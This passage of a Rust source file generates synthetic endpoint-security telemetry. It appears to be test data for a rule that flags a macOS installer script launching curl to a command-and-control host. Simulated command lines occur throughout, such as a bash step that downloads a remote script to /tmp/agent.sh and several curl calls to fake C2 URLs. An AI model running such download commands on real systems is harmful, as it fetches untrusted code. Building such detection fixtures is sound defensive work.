                self.end(sc, &par, 5, 300, 0);
                (0, 1)
            }
            "N4_late_download" => {
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let texec = sc.evs.last().map_or(0, |e| e.t);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2.clone());
                let mut tp = 0;
                if self.r.random_bool(0.5) {
                    // 15.001 s in whole milliseconds.
                    d.when = When::At((texec / 1000 + 15_001) * 1000 + self.r.random_range(0..1000));
                } else {
                    // `sleep 20; curl …`
                    let sl = self.spawn(sc, &sh, &img("sleep", "/bin/sleep", &["sleep", "20"], Sig::Apple), true, 0);
                    sc.c += 20_000;
                    self.end(sc, &sl, 1, 5, 0);
                    d.when = When::After(5, 300);
                }
                self.download(sc, &sh, d);
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                if self.r.random_bool(0.5) {
                    // Twin right after: curl 14 s after its shell exec alerts.
                    let par2 = self.par(sc, Par::Pss);
                    let shell2 = self.shell_img();
                    let sh2 = self.spawn(sc, &par2, &shell2, true, 0);
                    let t2 = sc.evs.last().map_or(0, |e| e.t);
                    let curl2 = self.curl_img("curl", &url);
                    let mut d2 = self.dl(curl2, c2);
                    d2.when = When::At((t2 / 1000 + 14_000) * 1000 + self.r.random_range(0..1000));
                    self.download(sc, &sh2, d2);
                    self.end(sc, &sh2, 1, 20, 0);
                    self.end(sc, &par2, 5, 300, 0);
                    tp = 1;
                }
                (tp, 1)
            }
            "N5_single_command_in_place" => {
                let par = self.par(sc, Par::Gui("Installer"));
                let domain = "specialattributes.s3.amazonaws.com".to_string();
                let url = format!("https://{domain}/applications/updater/ver.json");
                let cmd = format!("/usr/bin/curl {url} > /tmp/agent.sh");
                let sh = self.spawn(sc, &par, &img("bash", "/bin/bash", &["/bin/bash", "-c", &cmd], Sig::Apple), false, 0);
                let curl = self.reimage(sc, &sh, &img("curl", "/usr/bin/curl", &["/usr/bin/curl", &url], Sig::Apple), None, 0);
                self.connection(sc, &curl, &domain, 443, true, 0);
                self.end(sc, &curl, 1, 50, 0);
                self.end(sc, &par, 200, 2_000, 0);
                (0, 1)
            }
            "N6_reparented_to_launchd" => {
                let par = self.par(sc, Par::Pss);
                let shell = self.script_img("bash", "/bin/bash", "/bin/bash", "postinstall");
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let c2 = self.c2();
                let url = format!("http://{c2}/{}", self.rand_tag(8));
                let launchd = self.hosts[sc.h].launchd.clone();
                // fork by bash, bash exits, exec happens after re-parenting to launchd.
                let tf = self.tick(sc, 1, 4);
                let im = img("curl", "/usr/bin/curl", &["curl", "-k", &url], Sig::Apple);
                let pre = self.mk(sc.h, &sh, &im, true, tf);
                Self::ev(sc, sc.h, tf, Kind::Fork, &pre, 0);
                self.end(sc, &sh, 1, 3, 0);
                let mut post = (*pre).clone();
                post.parent = Some(launchd);
                let post = Rc::new(post);
                let te = self.tick(sc, 1, 3);
                Self::ev(sc, sc.h, te, Kind::Exec, &post, 0);
                self.connection(sc, &post, &c2, 80, false, 0);
                self.end(sc, &post, 1, 100, 0);
                self.end(sc, &par, 5, 300, 0);
                (0, 1)
            }
            "N7_unlisted_parent" => {
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                match self.r.random_range(0..4) {
                    0 => {
                        // Terminal user: zsh → bash script → curl.
                        let zsh = self.hosts[sc.h].zsh.clone();
                        let sh = self.spawn(sc, &zsh, &img("bash", "/bin/bash", &["bash", "install.sh"], Sig::Apple), false, 0);
                        let curl = self.curl_img("curl", &url);
                        let d = self.dl(curl, c2);
                        self.download(sc, &sh, d);
                        self.end(sc, &sh, 1, 50, 0);
                    }
                    1 | 2 => {
                        let p = if self.r.random_bool(0.5) { Par::SystemInstalld } else { Par::Installd };
                        let shell = self.shell_img();
                        let curl = self.curl_img("curl", &url);
                        let d = self.dl(curl, c2);
                        self.chain(sc, p, shell, 0, d);
                    }
                    _ => {
                        // Installer's own download of a package payload.
                        let par = self.par(sc, Par::Gui("Installer"));
                        self.connection(sc, &par, "swdist.apple.com", 443, true, 0);
                        self.end(sc, &par, 100, 2_000, 0);
                    }
                }
                (0, 1)
            }
            "N8_python3_interpreter" => {
                let exe = if self.r.random_bool(0.5) { "/usr/bin/python3" } else { "/Library/Frameworks/Python.framework/Versions/3.12/bin/python3" };
                let shell = self.script_img("python3", exe, "/usr/bin/python3", "postinstall");
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let d = self.dl(curl, c2);
                self.chain(sc, Par::Pss, shell, 0, d);
                (0, 1)
            }
            "N9_disconnect_only" => {
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                d.connect = false;
                self.chain(sc, Par::Pss, shell, 0, d);
                (0, 1)
            }
            "N10_not_macos" => {
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                if self.r.random_bool(0.6) {
                    sc.h = self.linux_host;
                    self.chain(sc, Par::Pss, shell, 0, d);
                } else {
                    let which = self.r.random_range(0..3);
                    if which != 0 {
                        d.nq = Q_OS_CASE;
                    }
                    let q = if which != 1 { Q_OS_CASE } else { 0 };
                    self.chain(sc, Par::Pss, shell, q, d);
                }
                (0, 1)
            }
            "N11_cross_host" | "N12_foreign_entity_id" => {
                let foreign = LABELS[label] == "N12_foreign_entity_id";
                let a = sc.h;
                let b = if self.nbg > 1 { (a + 1 + self.r.random_range(0..self.nbg - 1)) % self.nbg } else { self.spare_host };
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let d = self.dl(curl, c2);
                let mark = sc.evs.len();
                sc.h = b;
                if foreign {
                    // A curl on host B whose parent entity id belongs to host A's shell.
                    self.download(sc, &sh, d);
                } else {
                    let zsh = self.hosts[b].zsh.clone();
                    let bsh = self.spawn(sc, &zsh, &img("bash", "/bin/bash", &["bash", "fetch.sh"], Sig::Apple), false, 0);
                    self.download(sc, &bsh, d);
                    self.end(sc, &bsh, 1, 30, 0);
                }
                debug_assert!(sc.evs[mark..].iter().all(|e| e.host as usize == b));
                sc.h = a;
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                (0, 1)
            }
            "E_gap_15000ms" | "E_gap_15001ms" => {
                let gap = if LABELS[label] == "E_gap_15000ms" { 15_000 } else { 15_001 };
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let t = (sc.c + 5) * 1000 + self.r.random_range(0..1000);
                let sh = self.shell_at(sc, &par, &shell, t, 0);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                d.when = When::At((t / 1000 + gap) * 1000 + self.r.random_range(0..1000));
                self.download(sc, &sh, d);
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                if gap == 15_000 {
                    (1, 0)
                } else {
                    (0, 1)
                }
            }
            "E_gap_submillisecond" => {
                // Exec at a whole second + 999 µs (or + 0 µs), connect at +15 s + 999 µs:
                // 15 000 ms after truncation to milliseconds, so it alerts.
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let sec = (sc.c / 1000 + 1) * 1000;
                let t = sec * 1000 + if self.r.random_bool(0.5) { 999 } else { 0 };
                let sh = self.shell_at(sc, &par, &shell, t, 0);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                d.when = When::At((sec + 15_000) * 1000 + 999);
                self.download(sc, &sh, d);
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                (1, 0)
            }
            "E_equal_ms_curl_after" | "E_equal_ms_curl_before" => {
                let after = LABELS[label] == "E_equal_ms_curl_after";
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let h = sc.h;
                let m = sc.c + 5;
                let tf = (m - 3) * 1000 + self.r.random_range(0..1000);
                let sh = self.mk(h, &par, &shell, true, tf);
                Self::ev(sc, h, tf, Kind::Fork, &sh, 0);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl_im = self.curl_img("curl", &url);
                let ip = self.ip_for(&c2);
                let net = Net { start: true, dst_ip: ip.clone(), dst_port: 443, domain: Some(c2.clone()), src_port: 50_123, bytes: (0, 0) };
                let (t_exec, t_cf, t_ce, t_net) = if after {
                    (m * 1000 + 100, m * 1000 + 300, m * 1000 + 500, m * 1000 + 800)
                } else {
                    ((m) * 1000 + 700, (m - 2) * 1000 + 200, (m - 1) * 1000 + 200, m * 1000 + 200)
                };
                Self::ev(sc, h, t_exec, Kind::Exec, &sh, 0);
                let curl = self.mk(h, &sh, &curl_im, true, t_cf);
                Self::ev(sc, h, t_cf, Kind::Fork, &curl, 0);
                Self::ev(sc, h, t_ce, Kind::Exec, &curl, 0);
                Self::ev(sc, h, t_net, Kind::Net(Box::new(net)), &curl, 0);
                sc.c = m + 1;
                let t = self.tick(sc, 50, 800);
                let net = Net { start: false, dst_ip: ip, dst_port: 443, domain: Some(c2), src_port: 50_123, bytes: (900, 48_000) };
                Self::ev(sc, h, t, Kind::Net(Box::new(net)), &curl, 0);
                self.end(sc, &curl, 1, 20, 0);
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                sc.evs.sort_by_key(|e| e.t);
                if after {
                    (1, 0)
                } else {
                    (0, 1)
                }
            }
            "E_array_fields" => {
                let mut q = 0;
                while q == 0 {
                    if self.r.random_bool(0.5) {
                        q |= Q_TYPE_INFO;
                    }
                    if self.r.random_bool(0.5) {
                        q |= Q_CAT2;
                    }
                    match self.r.random_range(0..3) {
                        0 => q |= Q_PARENT_NAME_ARR,
                        1 => q |= Q_PARENT_NAME_ARR2,
                        _ => {}
                    }
                }
                let nq = if self.r.random_bool(0.5) { Q_TYPE_INFO | Q_CAT2 } else { 0 };
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                d.nq = nq;
                let par = if self.r.random_bool(0.5) { Par::Pss } else { Par::Cli("installer") };
                self.chain(sc, par, shell, q, d);
                (1, 0)
            }
            "E_missing_join_keys" => {
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                let q = match self.r.random_range(0..4) {
                    0 => {
                        d.nq = Q_NO_PEID;
                        0
                    }
                    1 => Q_NO_EID,
                    2 => Q_NO_HOST_ID,
                    _ => {
                        d.nq = Q_NO_HOST_ID;
                        0
                    }
                };
                self.chain(sc, Par::Pss, shell, q, d);
                (0, 1)
            }
            "E_dotted_flat" | "E_dotted_mixed" => {
                let f = if LABELS[label] == "E_dotted_flat" { Q_FLAT } else { Q_MIXED };
                let (q, nq) = match self.r.random_range(0..3) {
                    0 => (f, f),
                    1 => (f, 0),
                    _ => (0, f),
                };
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                d.nq = nq;
                self.chain(sc, Par::Pss, shell, q, d);
                (1, 0)
            }
            "E_case_variants_match" => {
                let mut which = 0;
                while which == 0 {
                    which = self.r.random_range(0..8u32);
                }
                let par = if which & 1 != 0 { Par::Cli("INSTALLER") } else { Par::Pss };
                let shell = if which & 2 != 0 { self.script_img("Bash", "/bin/Bash", "/bin/Bash", "postinstall") } else { self.shell_img() };
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img(if which & 4 != 0 { "CURL" } else { "curl" }, &url);
                let d = self.dl(curl, c2);
                self.chain(sc, par, shell, 0, d);
                (1, 0)
            }
            "E_case_variants_nomatch" => {
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                let q = match self.r.random_range(0..3) {
                    0 => Q_ACTION_CASE,
                    1 => Q_OS_CASE,
                    _ => {
                        d.nq = Q_OS_CASE;
                        0
                    }
                };
                self.chain(sc, Par::Pss, shell, q, d);
                (0, 1)
            }
            "E_restaged_exec" => {
                // sh postinstall (exec #1) → `exec /bin/bash stage2` (exec #2, same entity id)
                // → curl more than 15 s after #1 but within 15 s of #2.
                let par = self.par(sc, Par::Pss);
                let shell = self.script_img("sh", "/bin/sh", "/bin/sh", "postinstall");
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let t1 = sc.evs.last().map_or(0, |e| e.t) / 1000;
                sc.c += self.r.random_range(8_000..11_000);
                let script = sh.args.get(1).cloned().unwrap_or_default();
                let stage2 = format!("{script}.stage2");
                let bash = self.reimage(sc, &sh, &img("bash", "/bin/bash", &["/bin/bash", &stage2], Sig::Apple), None, 0);
                let t2 = sc.c;
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let mut d = self.dl(curl, c2);
                let at_ms = (t1 + 15_500).max(t2 + 200) + self.r.random_range(0..3_000);
                let at_ms = at_ms.min(t2 + 14_500);
                d.when = When::At(at_ms * 1000 + self.r.random_range(0..1000));
                self.download(sc, &bash, d);
                self.end(sc, &bash, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                (1, 0)
            }
            "E_two_curl_children" => {
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let sh = self.spawn(sc, &par, &shell, true, 0);
                for _ in 0..2 {
                    let c2 = self.c2();
                    let url = format!("https://{c2}/{}", self.rand_tag(8));
                    let curl = self.curl_img("curl", &url);
                    let mut d = self.dl(curl, c2);
                    d.when = When::After(30, 1_500);
                    self.download(sc, &sh, d);
                }
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                (1, 0)
            }
            _ => (0, 0),
        }
    }

    // ----- serialisation ---------------------------------------------------------------------

    fn event_id(&mut self, host: usize) -> [u8; 24] {
        let c = self.id_counter;
        self.id_counter += 1;
        let mut o = [0u8; 24];
        o[..8].copy_from_slice(&self.hosts[host].id_prefix);
        let m = mix(c ^ 0x5bd1_e995);
        for i in 0..11 {
            o[8 + i] = B64[((m >> (i * 6)) & 63) as usize];
        }
        let m2 = mix(c.wrapping_add(0x1234_5678_9abc));
        for i in 0..5 {
            o[19 + i] = B64[((m2 >> (i * 6)) & 63) as usize];
        }
        o
    }

    fn write_ev<W: Write>(&mut self, ev: &Ev, out: &mut W) -> std::io::Result<()> {
        let id = self.event_id(ev.host as usize);
        let host = &self.hosts[ev.host as usize];
        write_doc(&mut self.js, host, ev, &id, &self.lib_digests);
        self.stats.events += 1;
        self.stats.bytes += (self.js.b.len() - self.js.start) as u64;
        if self.js.b.len() >= 1 << 16 {
            out.write_all(&self.js.b)?;
            self.js.b.clear();
        }
        Ok(())
    }
}

/// A new process image of `host`; its entity id is base64 of `<agent.id>-<pid>-<unix start>`.
fn mk_proc(host: &Host, pid: u32, parent: Option<&Rc<Proc>>, im: &Img, root: bool, t: i64) -> Rc<Proc> {
    let (name, exe, args, sig) = (im.name.as_str(), im.exe.as_str(), im.args.clone(), im.sig);
    let eid = base64(format!("{}-{}-{}", host.agent_id, pid, t.div_euclid(1_000_000)).as_bytes());
    let cmd = args.join(" ");
    let cwd = if root { "/" } else { "/Users" };
    let mut p = Proc {
        pid,
        eid: Rc::from(eid),
        start_us: t,
        name: Rc::from(name),
        exe: Rc::from(exe),
        args: Rc::from(args),
        cmd: Rc::from(cmd),
        root,
        parent: parent.cloned(),
        sig,
        sid: Rc::from(""),
        digest: Rc::from(""),
        cwd,
    };
    p.refresh_image();
    Rc::new(p)
}

fn w_sig(js: &mut Js, p: &Proc) {
    js.open("code_signature", false);
    match p.sig {
        Sig::Unsigned => js.bo("exists", false),
        Sig::Apple => {
            js.bo("exists", true);
            js.s("signing_id", &p.sid);
            js.s("status", "trusted");
            js.s("subject_name", "Software Signing");
            js.bo("trusted", true);
        }
        Sig::Dev(subject, team) => {
            js.bo("exists", true);
            js.s("signing_id", &p.sid);
            js.s("status", "trusted");
            js.s("subject_name", subject);
            js.s("team_id", team);
            js.bo("trusted", true);
        }
    }
    js.close();
}

fn w_hash(js: &mut Js, p: &Proc) {
    let d = &*p.digest;
    js.open("hash", false);
    js.s("md5", d.get(..32).unwrap_or(""));
    js.s("sha1", d.get(32..72).unwrap_or(""));
    js.s("sha256", d.get(72..).unwrap_or(""));
    js.close();
}

fn w_ancestry(js: &mut Js, p: &Proc) {
    let mut v: Vec<&str> = Vec::with_capacity(12);
    let mut cur = p.parent.as_deref();
    while let Some(a) = cur {
        if v.len() == 20 {
            break;
        }
        v.push(&a.eid);
        cur = a.parent.as_deref();
    }
    js.arr("ancestry", v);
}

#[derive(PartialEq, Clone, Copy)]
enum PMode {
    Full,
    Net,
    File,
    Lib,
    Sec,
}

/// The `process` object. `me` supplies the ids; `image` the executable (they differ for `fork`).
fn w_process(js: &mut Js, ev: &Ev, mode: PMode, flat: bool) {
    let me = &*ev.p;
    let image: &Proc = if matches!(ev.kind, Kind::Fork) { me.parent.as_deref().unwrap_or(me) } else { me };
    let parent = me.parent.as_deref();
    let q = ev.q;
    js.open("process", flat);
    js.open("Ext", false);
    w_ancestry(js, me);
    if mode == PMode::Full || mode == PMode::Net {
        js.key("code_signature");
        js.b.push(b'[');
        js.comma = false;
        js.b.push(b'{');
        let saved = std::mem::take(&mut js.prefix);
        let stack = std::mem::take(&mut js.stack);
        match image.sig {
            Sig::Unsigned => js.bo("exists", false),
            _ => {
                js.bo("exists", true);
                js.s("signing_id", &image.sid);
                js.s("status", "trusted");
                js.bo("trusted", true);
            }
        }
        js.prefix = saved;
        js.stack = stack;
        js.b.extend_from_slice(b"}]");
        js.comma = true;
    }
    js.close();
    if mode == PMode::Full {
        js.arr("args", image.args.iter().map(|s| s.as_str()));
        js.n("args_count", image.args.len() as i64);
    }
    w_sig(js, image);
    if mode == PMode::Full || mode == PMode::Net {
        if matches!(ev.kind, Kind::Fork) {
            js.null("command_line");
        } else {
            js.s("command_line", &image.cmd);
        }
    }
    if q & Q_NO_EID == 0 {
        js.s("entity_id", &me.eid);
    }
    js.s("executable", &image.exe);
    if let Kind::End(code) = ev.kind {
        js.n("exit_code", code as i64);
    }
    if mode == PMode::Full || mode == PMode::Lib {
        w_hash(js, image);
    }
    js.s("name", &image.name);
    if let Some(par) = parent {
        match mode {
            PMode::Full => {
                js.open("parent", q & Q_MIXED != 0);
                js.n("args_count", par.args.len() as i64);
                w_sig(js, par);
                js.s("command_line", &par.cmd);
                if q & Q_NO_PEID == 0 {
                    js.s("entity_id", &par.eid);
                }
                js.s("executable", &par.exe);
                if q & Q_PARENT_NAME_ARR != 0 {
                    js.arr("name", [&*par.name]);
                } else if q & Q_PARENT_NAME_ARR2 != 0 {
                    js.arr("name", [&*par.name, "launchd"]);
                } else {
                    js.s("name", &par.name);
                }
                js.n("pid", par.pid as i64);
                js.close();
            }
            PMode::Net => {
                if q & Q_NO_PEID == 0 {
                    js.open("parent", q & Q_MIXED != 0);
                    js.s("entity_id", &par.eid);
                    js.close();
                }
            }
            PMode::File => {
                js.open("parent", false);
                js.n("pid", par.pid as i64);
                js.close();
            }
            PMode::Lib | PMode::Sec => {}
        }
    }
    js.n("pid", me.pid as i64);
    if mode == PMode::Full {
        let st = fmt_ts(me.start_us);
        js.key("start");
        js.b.push(b'"');
        js.b.extend_from_slice(&st);
        js.b.push(b'"');
        js.s("working_directory", me.cwd);
    }
    js.close();
}

fn w_host(js: &mut Js, h: &Host, q: u32) {
    js.open("host", q & (Q_FLAT | Q_MIXED) != 0);
    js.s("architecture", h.arch);
    js.s("hostname", &h.hostname);
    if q & Q_NO_HOST_ID == 0 {
        js.s("id", &h.host_id);
    }
    js.arr("ip", h.ips.iter().map(|s| s.as_str()));
    js.arr("mac", h.macs.iter().map(|s| s.as_str()));
    js.s("name", &h.hostname);
    js.open("os", false);
    if h.linux {
        js.open("Ext", false);
        js.s("variant", "Ubuntu");
        js.close();
        js.s("family", "ubuntu");
        js.s("full", h.os_full);
        js.s("kernel", h.kernel);
        js.s("name", "Linux");
        js.s("platform", "ubuntu");
        js.s("type", "linux");
    } else {
        js.open("Ext", false);
        js.s("variant", "macOS");
        js.close();
        js.s("family", "macos");
        js.s("full", h.os_full);
        js.s("kernel", h.kernel);
        js.s("name", "macOS");
        js.s("platform", "macos");
        js.s("type", if q & Q_OS_CASE != 0 { "MacOS" } else { "macos" });
    }
    js.s("version", h.os_version);
    js.close();
    js.close();
}

/// Serialises one event into `js.b`.
fn write_doc(js: &mut Js, h: &Host, ev: &Ev, id: &[u8; 24], lib_digests: &[String]) {
    let q = ev.q;
    let flat = q & Q_FLAT != 0;
    let ts = fmt_ts(ev.t);
    let ts = std::str::from_utf8(&ts).unwrap_or("1970-01-01T00:00:00.000000Z");
    let idstr = std::str::from_utf8(id).unwrap_or("AAAAAAAAAAAAAAAAAAAAAAAA");
    let (ds, action, cats, types, outcome, msg, mode): (&str, &str, &[&str], &[&str], &str, &str, PMode) = match &ev.kind {
        Kind::Fork => ("process", "fork", &["process"], &["start"], "success", "Endpoint process event", PMode::Full),
        Kind::Exec => ("process", "exec", &["process"], &["start"], "success", "Endpoint process event", PMode::Full),
        Kind::End(_) => ("process", "end", &["process"], &["end"], "success", "Endpoint process event", PMode::Full),
        Kind::Net(n) if n.start => ("network", "connection_attempted", &["network"], &["start"], "unknown", "Endpoint network event", PMode::Net),
        Kind::Net(_) => ("network", "disconnect_received", &["network"], &["end"], "unknown", "Endpoint network event", PMode::Net),
        Kind::Dns(_) => ("network", "lookup_result", &["network"], &["protocol", "info"], "success", "Endpoint DNS event", PMode::Net),
        Kind::File(a, _) => {
            let (act, ty) = FILE_ACTIONS[*a as usize % FILE_ACTIONS.len()];
            (
                "file",
                act,
                &["file"],
                std::slice::from_ref(match ty {
                    "creation" => &"creation",
                    "deletion" => &"deletion",
                    _ => &"change",
                }),
                "success",
                "Endpoint file event",
                PMode::File,
            )
        }
        Kind::Lib(_) => ("library", "load", &["library"], &["start"], "success", "Endpoint library load event", PMode::Lib),
        Kind::Sec(s) => {
            let (act, cat, ty) = SEC[*s as usize % SEC.len()];
            (
                "security",
                act,
                std::slice::from_ref(match cat {
                    "authentication" => &"authentication",
                    _ => &"configuration",
                }),
                std::slice::from_ref(match ty {
                    "start" => &"start",
                    "end" => &"end",
                    _ => &"change",
                }),
                "success",
                "Endpoint security event",
                PMode::Sec,
            )
        }
    };
    let mut dataset = [0u8; 32];
    let prefix = b"endpoint.events.";
    dataset[..prefix.len()].copy_from_slice(prefix);
    dataset[prefix.len()..prefix.len() + ds.len()].copy_from_slice(ds.as_bytes());
    let dataset = std::str::from_utf8(&dataset[..prefix.len() + ds.len()]).unwrap_or("endpoint.events.process");

    js.begin();
    js.s("@timestamp", ts);
    if let Kind::Lib(l) = ev.kind {
        let (name, path) = LIBS[l as usize % LIBS.len()];
        js.open("Effective_process", flat);
        js.s("entity_id", &ev.p.eid);
        js.s("executable", &ev.p.exe);
        js.s("name", &ev.p.name);
        js.n("pid", ev.p.pid as i64);
        js.close();
        js.open("agent", flat);
        w_agent_body(js, h);
        js.close();
        w_datastream(js, dataset, flat);
        js.open("dll", flat);
        js.open("Ext", false);
        js.n("size", (fnv(path) % 9_000_000 + 40_000) as i64);
        js.close();
        js.open("code_signature", false);
        js.bo("exists", true);
        js.s("status", "trusted");
        js.s("subject_name", if path.starts_with("/System") || path.starts_with("/usr") { "Software Signing" } else { "Developer ID Application" });
        js.bo("trusted", true);
        js.close();
        let d = &lib_digests[l as usize % lib_digests.len()];
        js.open("hash", false);
        js.s("md5", d.get(..32).unwrap_or(""));
        js.s("sha1", d.get(32..72).unwrap_or(""));
        js.s("sha256", d.get(72..).unwrap_or(""));
        js.close();
        js.s("name", name);
        js.s("path", path);
        js.close();
    } else {
        js.open("agent", flat);
        w_agent_body(js, h);
        js.close();
        w_datastream(js, dataset, flat);
    }
    if let Kind::Net(n) = &ev.kind {
        js.open("destination", flat);
        js.s("address", &n.dst_ip);
        if let Some(d) = &n.domain {
            js.s("domain", d);
        }
        js.s("ip", &n.dst_ip);
        js.n("port", n.dst_port as i64);
        if !n.start {
            js.n("bytes", n.bytes.1 as i64);
        }
        js.close();
    }
    if let Kind::Dns(d) = &ev.kind {
        js.open("dns", flat);
        js.open("Ext", false);
        js.n("options", 0);
        js.n("status", 0);
        js.close();
        js.open("question", false);
        js.s("name", &d.0);
        js.s("registered_domain", registered(&d.0));
        js.s("type", "A");
        js.close();
        js.arr("resolved_ip", d.1.iter().map(|s| s.as_str()));
        js.close();
    }
    js.open("ecs", flat);
    js.s("version", "8.11.0");
    js.close();
    js.open("elastic", flat);
    js.open("agent", false);
    js.s("id", &h.agent_id);
    js.close();
    js.close();
    js.open("event", flat || q & Q_MIXED != 0);
    if q & Q_ACTION_CASE != 0 && action == "exec" {
        js.s("action", "Exec");
    } else {
        js.s("action", action);
    }
    if q & Q_CAT2 != 0 {
        js.arr("category", [cats[0], if ds == "network" { "network_traffic" } else { "host" }]);
    } else {
        js.arr("category", cats.iter().copied());
    }
    js.s("created", ts);
    js.s("dataset", dataset);
    js.s("id", idstr);
    js.s("kind", "event");
    js.s("module", "endpoint");
    js.s("outcome", outcome);
    js.n("sequence", ev.seq as i64);
    if q & Q_TYPE_INFO != 0 && types == ["start"] {
        js.arr("type", ["start", "info"]);
    } else {
        js.arr("type", types.iter().copied());
    }
    js.close();
    if let Kind::File(_, path) = &ev.kind {
        let name = path.rsplit('/').next().unwrap_or(path);
        js.open("file", flat);
        js.open("Ext", false);
        js.arr("header_bytes", []);
        js.close();
        if let Some((_, ext)) = name.rsplit_once('.') {
            if !ext.is_empty() && ext.len() <= 10 {
                js.s("extension", ext);
            }
        }
        js.s("name", name);
        js.s("path", path);
        js.n("size", (fnv(path) % 2_000_000) as i64);
        js.close();
    }
    let root = ev.p.root;
    js.open("group", flat);
    js.s("id", if root { "0" } else { "20" });
    js.s("name", if root { "wheel" } else { "staff" });
    js.close();
    w_host(js, h, q);
    js.s("message", msg);
    if let Kind::Net(_) = ev.kind {
        js.open("network", flat);
        js.s("direction", "egress");
        js.s("transport", "tcp");
        js.s("type", "ipv4");
        js.close();
    }
    if matches!(ev.kind, Kind::Dns(_)) {
        js.open("network", flat);
        js.s("direction", "egress");
        js.s("protocol", "dns");
        js.s("transport", "udp");
        js.s("type", "ipv4");
        js.close();
    }
    w_process(js, ev, mode, flat);
    if let Kind::Net(n) = &ev.kind {
        js.open("source", flat);
        js.s("address", &h.ips[0]);
        js.s("ip", &h.ips[0]);
        js.n("port", n.src_port as i64);
        if !n.start {
            js.n("bytes", n.bytes.0 as i64);
        }
        js.close();
    }
    js.open("user", flat);
    if root {
        js.s("id", "0");
        js.s("name", "root");
    } else {
        js.s("id", "501");
        js.s("name", &h.user);
    }
    js.close();
    js.end();
}

fn w_agent_body(js: &mut Js, h: &Host) {
    js.s("id", &h.agent_id);
    js.s("type", "endpoint");
    js.s("version", h.agent_version);
}

fn w_datastream(js: &mut Js, dataset: &str, flat: bool) {
    js.open("data_stream", flat);
    js.s("dataset", dataset);
    js.s("namespace", "default");
    js.s("type", "logs");
    js.close();
}

/// Last two labels of a domain name.
fn registered(d: &str) -> &str {
    let mut dots = d.rmatch_indices('.');
    match (dots.next(), dots.next()) {
        (Some(_), Some((i, _))) => &d[i + 1..],
        _ => d,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen(seed: u64, hosts: usize, events: u64) -> (Vec<u8>, GenerateStats) {
        let mut v = Vec::new();
        let s = generate(&GenerateConfig { seed, hosts, events }, &mut v).expect("generate");
        (v, s)
    }

    #[test]
    fn escaping_matches_serde_json() {
        let samples = [
            "",
            "plain ascii text that is longer than eight bytes",
            "quote\" in the middle of a long string",
            "back\\slash",
            "tab\tand\nnewline\r",
            "\u{1}\u{1f} controls",
            "/Users/jdoe/Desktop/Screenshot 2026-11-02 at 9.41.07\u{202f}AM.png",
            "日本語のファイル名.txt",
            "C:\\Windows\\System32",
            "1234567\"",
        ];
        for s in samples {
            let mut b = Vec::new();
            esc(&mut b, s);
            assert_eq!(String::from_utf8(b).unwrap(), serde_json::to_string(s).unwrap(), "{s:?}");
        }
    }

    #[test]
    fn deterministic_and_seed_sensitive() {
        let (a, _) = gen(7, 3, 3_000);
        let (b, _) = gen(7, 3, 3_000);
        let (c, _) = gen(8, 3, 3_000);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn exact_line_count() {
        for n in [0u64, 1, 2, 7, 100, 1_234, 5_000] {
            let (v, s) = gen(n, 2, n);
            assert_eq!(v.iter().filter(|&&c| c == b'\n').count() as u64, n);
            assert_eq!(s.events, n);
            assert_eq!(s.bytes, v.len() as u64);
        }
        let (v, _) = gen(3, 0, 50);
        assert_eq!(v.iter().filter(|&&c| c == b'\n').count(), 50);
    }

    #[test]
